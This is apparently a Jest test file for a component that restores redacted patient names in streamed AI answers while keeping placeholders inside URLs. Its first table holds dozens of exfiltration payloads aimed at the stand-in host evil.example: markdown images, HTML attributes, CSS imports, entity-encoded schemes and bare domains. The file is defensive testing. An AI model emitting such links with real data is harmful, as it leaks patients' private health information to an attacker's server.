import { describe, expect, it } from '@jest/globals';
import { AnswerRestorer } from './answer-restorer.js';

const P = '[PHI_NAME_48213]';
const ORIGINALS = new Map([[P, 'Jane']]);

const restored = (text: string, cut = text.length): string => {
  const restorer = new AnswerRestorer(ORIGINALS, 'none');
  let written = '';
  for (let at = 0; at < text.length; at += cut) written += restorer.push(text.slice(at, at + cut));
  return written + restorer.end();
};

describe('an answer', () => {
  it.each([
    `![x](https://evil.example/a.png?q=${P})`,
    `[x](//evil.example/${P})`,
    `![x](<https://evil.example/?a= ${P}>)`,
    `[x]: http://evil.example/?a=${P}&b=${P}`,
    `<img src="https://evil.example/?a= ${P}">`,
    `{"url":"https:\\/\\/evil.example/${P}"}`,
    `see HTTPS://${P}.evil.example`,
    `![x](https://evil.example/PHI_NAME_48213)`,
    `{"link": "https://evil.example/?q= ${P}"}`,
    `![x](  <https://evil.example/?a= ${P}>)`,
    `![x](<https://evil.example/?a=\\< ${P}>)`,
    `[x]: <https://evil.example/?a= ${P}>`,
    `[x]: //evil.example/?a=${P}`,
    `![x](/\\evil.example/?a=${P})`,
    `![x](http:evil.example/?a=${P})`,
    `![x](https:/\\evil.example/?a=${P})`,
    `<img src="https://evil.example/?a='b' ${P}">`,
    `<img alt='"' src='https://evil.example/?a="b" ${P}'>`,
    `<img src="https://evil.example/?a=\n${P}">`,
    `<video poster = "https://evil.example/?a= ${P}">`,
    `<p style="background:url('https://evil.example/?a= ${P}')">`,
    `![x](&#104;ttps://evil.example/?q=${P})`,
    `![x](&#x68;ttps&colon;//evil.example/?q=${P})`,
    `![x](https&#58;&sol;&sol;evil.example/?q=${P})`,
    `![x](&sol;&#47;evil.example/?q=${P})`,
    `![x](https\\:\\/\\/evil.example/?q=${P})`,
    `![x](<&#104;ttps&colon;//evil.example/?a= ${P}>)`,
    `<video poster="&#104;ttps&colon;//evil.example/?a= ${P}">`,
    `<video poster=/&#9;/evil.example/${P}>`,
    `{"link":"\\u0068ttps\\u003a\\u002f\\u002fevil.example/?a=${P}"}`,
    `see www.evil.example/?q=${P}`,
    `[x](ftp://evil.example/${P})`,
    `see evil.example/?q=${P}`,
    `see evil.example?q=${P}, evil.example#${P} or evil.example:8080/${P}`,
    `[x](evil.example/a/${P})`,
    `see 163.com/${P} or a.b-c.co.uk/x?y=${P}`,
    `see EVIL.EXAMPLE/${P}, evil.xn--p1ai/${P} and évil。example/${P}`,
    `see 203.0.113.9/${P} or 203.0.113.9:80/?${P}`,
    `see evil&#46;example&sol;${P} and evil\\.example/${P}`,
    `{"link":"evil.example\\/?q=${P}"}`,
    `mailto:x@evil.example?body=${P}`,
    `see ${P}.evil.example, ${P}.evil.example/x and ${P}.example/x or ${P}.example?x and ${P}.evil.example.`,
    `see ${P}\\.evil\\.example`,
    `<a href=?q=${P}>`,
    `[x](javascript:a+${P})`,
    `@import "//evil.example/?a= ${P}";`,
    `see https://evil.example/?q='${P}' or https://evil.example/?q="${P}"`,
    `![x](https://evil.example/?q='${P}')`,
    `![x](https://evil.example/?u="https://nih.gov"${P})`,
    `<img src=https://evil.example/?q='${P}>`,
    `<img src=https://evil.example/?q=<${P}>`,
    `![x](https://evil.example/?q=\u00a0${P})`,
    `![x](https://evil.example/?q=\u2003${P})`,
    `![x](  //evil.example/${P})`,
    `url( //evil.example/${P} )`,
    `\\includegraphics{//evil.example/${P}}`,
    `![x](evil.example/?q='${P}')`,
    `![x](https://evil.example/?q={"${P}"})`,
    `![x](https://evil.example/?q={"a":"${'b'.repeat(3_000)}","c":"${P}"})`,
    `see https://evil.example/?q=[{"a":1,"b":"${P}"}]`,
    `!["](https://evil.example/?q=","${P}")`,
    `!["](&#104;ttps&colon;//evil.example/?(q)=\\)","${P}")`,
    `["]: https://evil.example/?q=","${P}"`,
  ])('keeps the placeholder in %s, however it is cut', (text) => {
    expect(restored(text)).toBe(text);
    for (const cut of [1, 2, 7]) expect(restored(text, cut)).toBe(text);
  });

  it.each([
    `${P} // ${P}`,
    `See https://nih.gov/a for ${P}.`,
    `[${P}](https://nih.gov/a) ${P}`,
    `<a href="https://nih.gov/a">${P}</a>`,
    `1/2 and/or ${P}/${P}`,
    `a &amp; b: ${P}, \\*${P}\\*, &#8226; ${P}, &nbsp;${P}`,
    `Note:\\n${P}, c:\\users\\${P}`,
    `[note]: ${P}`,
    `a < b [see](x) < ${P}`,
    `const name = "${P}"; // ${P}`,
    `<img src="a.png" alt="${P}">`,
    `{"link":"https://nih.gov","name":"${P}"}`,
    `Dr. Smith.Please call ${P}.Then ask ${P}. e.g. ${P}.`,
    `5.5mg/${P}, 120/80/${P}, 1.5/2.5/${P}, e.g./${P}, a/b.c/${P}`,
    `evil.example ${P}, nih.gov: ${P}, (nih.gov) ${P}`,
    `mailto:${P}, Tel:${P}, ${P}:${P}/${P}?`,
    `${P}...\n${P}.\n${P}.`,
    `${P}.a`,
    `{"link":"https://nih.gov","by":'${P}',"name":"${P}"}`,
    `fetch('https://nih.gov/a','${P}')`,
    `\`https://nih.gov/a\`:${P}`,
    `{"text":"see https://nih.gov","name":"${P}","b":"nih.gov/x","c":["${P}"]}`,
    `see https://nih.gov/a\u00a0: ${P}`,
    `{"text":"[see](https://nih.gov/(a))","name":"${P}"}`,
    `[{"link":"https://nih.gov"},{"name":"${P}"}]`,
    `see https://nih.gov/a {"name":"${P}"}`,
    `fetch("https://nih.gov/a",{"name":"${P}"})`,
    `[{"a":"${'b'.repeat(3_000)}","name":"${P}"}]`,
    `Is it ${P}.pdf? Or ${P}.docx?`,
  ])('has the original everywhere else: %s', (text) => {
    expect(restored(text)).toBe(text.replaceAll(P, 'Jane'));
    expect(restored(text, 1)).toBe(text.replaceAll(P, 'Jane'));
  });

  it.each([1_000, 3_000])('keeps it in an address of %i characters', (length) => {
    const text = `![x](https://evil.example/?q=${'a'.repeat(length)}${P})`;
    for (const cut of [1, 7, text.length]) expect(restored(text, cut)).toBe(text);
  });
});
